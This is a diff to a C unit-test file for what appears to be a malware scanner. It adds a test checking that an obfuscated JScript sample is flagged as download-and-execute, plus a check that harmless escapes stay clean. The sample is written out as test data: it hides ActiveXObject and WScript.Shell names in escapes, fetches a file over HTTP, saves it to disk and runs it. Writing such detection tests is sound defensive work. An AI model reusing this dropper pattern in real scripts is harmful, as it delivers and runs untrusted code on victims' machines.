@@ -369,6 +369,27 @@ static const char stage2[] =
  * packers of 2021 Emotet landing pages, after blank lines and tabs): HTML.PACKED_PAGE, and the
  * decoded code is recovered and analysed. A page whose script only writes literal text is not
  * packed. */
+/* JScript that hides its ProgIDs as \u / \x escapes inside the literals (a 2021 stage-2
+ * backdoor: this['\u0041ctiveX\u004Fbject'], new X('\u0057Script.\x53hell')): the names are
+ * seen once the escapes are undone, so download + run is recognised. */
+static void js_unicode_escapes(void **st)
+{
+    (void)st;
+    static const char js[] =
+        "function g(){var a=this['\\u0041\\u0063tive\\u0058\\u004Fbject'];"
+        "return new a('\\u0057Script.\\x53hell');}\n"
+        "var h=new ActiveXObject(\"MSXML2.XMLHTTP\");h.open(\"GET\",u,false);h.send();\n"
+        "var s=new ActiveXObject(\"ADODB.Stream\");s.write(h.responseBody);s.SaveToFile(p,2);\n"
+        "g().Run(\"\\x22\" + p + \"\\x22\");\n";
+    eg_report *r = scan_str(js, "s.js");
+    assert_true(has_rule(r, "SCRIPT.DOWNLOAD_EXECUTE"));
+    eg_report_free(r);
+    /* escapes of quotes and backslashes are left alone: no false literal ends */
+    r = scan_str("var p = 'C:\\x5cUsers\\x5c' + \"\\x22q\\x22\";\n", "p.js");
+    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
+    eg_report_free(r);
+}
+
 static void html_packed_page(void **st)
 {
     (void)st;
@@ -494,6 +515,7 @@ int main(void)
         cmocka_unit_test(url_remote_file),
         cmocka_unit_test(url_search_ms_and_local),
         cmocka_unit_test(chm_header),
+        cmocka_unit_test(js_unicode_escapes),
         cmocka_unit_test(html_packed_page),
         cmocka_unit_test(hta_hex_element),
         cmocka_unit_test(hta_gzip_base64_element),
